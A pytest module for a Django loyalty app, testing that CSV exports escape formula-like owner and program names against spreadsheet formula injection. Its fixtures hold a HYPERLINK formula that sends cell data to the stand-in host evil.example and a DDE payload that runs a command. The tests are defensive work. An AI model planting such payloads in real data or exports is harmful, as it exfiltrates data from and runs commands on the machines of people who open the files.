"""Issue 13, finding 3: a name that looks like a formula comes out of every CSV as text.

Owner names come from cashiers and POS data and program names from admins; a spreadsheet must
show `=HYPERLINK(...)` as the words typed, never run it.
"""

import ast
from pathlib import Path

import pytest
from django.core import mail
from django.urls import reverse

from integrations.distributors.adapter import csv_attachment
from loyalty.models import DistributorReport, PetOwner, Program
from loyalty.presentation.spreadsheet import text_cell
from loyalty.tests import factories
from loyalty.tests.test_admin_reports import PARTICIPATION_CSV, REDEMPTIONS_CSV, csv_rows, redeem
from loyalty.tests.test_report_screen import make_report
from loyalty.tests.test_reports import complete_card, in_process_tasks  # noqa: F401 - a fixture
from loyalty.tests.test_reports import redeem as redeem_for_report

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def evil_owner(retailer):
    return factories.PetOwnerFactory(retailer=retailer, first_name=LINK, last_name="")


def test_the_redemption_history_export_writes_an_owner_name_as_text(admin_client, evil_owner):
    redeem(factories.enrolled_card(evil_owner.retailer, required=1), evil_owner)
    rows = csv_rows(admin_client.get(REDEMPTIONS_CSV))
    assert rows[1][2] == "'" + LINK


def test_the_redemption_reports_export_writes_an_owner_name_as_text(admin_client, retailer):
    report = make_report(retailer)
    PetOwner.objects.filter(pk=report.redemption.card.owner_id).update(
        first_name=LINK, last_name=""
    )
    rows = csv_rows(admin_client.get(reverse("redemption_reports"), {"export": "csv"}))
    assert rows[1][5] == "'" + LINK


def test_the_participation_export_writes_a_program_name_as_text(admin_client, retailer):
    Program.objects.create(kind="buy_x_get_y", name=DDE, retailer=retailer)
    rows = csv_rows(admin_client.get(PARTICIPATION_CSV))
    # The pipe is escaped too, so no DDE link survives even where the quote is stripped.
    assert rows[1][0] == "'=cmd\\|' /C calc'!A0"


@pytest.mark.usefixtures("in_process_tasks")
def test_the_csv_emailed_to_a_distributor_writes_an_owner_name_as_text(
    retailer, evil_owner, django_capture_on_commit_callbacks
):
    distributor = factories.DistributorFactory(delivery_method="email", email="claims@dist.example")
    card_program = factories.ProgramCardFactory(purchases_required=1)
    factories.EnrollmentFactory(
        retailer=retailer, program=card_program.program, distributor=distributor
    )
    with django_capture_on_commit_callbacks(execute=True):
        redeem_for_report(retailer, complete_card(retailer, card_program, owner=evil_owner))
    assert DistributorReport.objects.get().state == "sent"
    [message] = mail.outbox
    content = message.attachments[0][1]
    assert LINK not in content.replace('""', '"').replace("'=", "")
    assert "'=HYPERLINK" in content


def test_numbers_stay_numbers_and_blank_leaders_are_quoted_too():
    row = csv_attachment({"points": -5, "amount": "-3.50", "note": "\t=1+2", "at": "+1 555"})
    assert row.splitlines()[1] == "-5,-3.50,'\t=1+2,'+1 555"
    assert text_cell("Sally") == "Sally" and text_cell(12) == 12


def test_no_module_writes_a_csv_without_the_escaping_writer():
    """One writer for every CSV: a new export cannot forget the escaping."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    packages = ("astro_site", "loyalty", "integrations", "simulators", "demo", "bench")
    for path in (p for package in packages for p in (root / package).glob("**/*.py")):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "spreadsheet.py":
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            names = getattr(node, "names", None) if isinstance(node, ast.Import) else None
            module = node.module if isinstance(node, ast.ImportFrom) else None
            if module == "csv" or any(alias.name == "csv" for alias in names or []):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
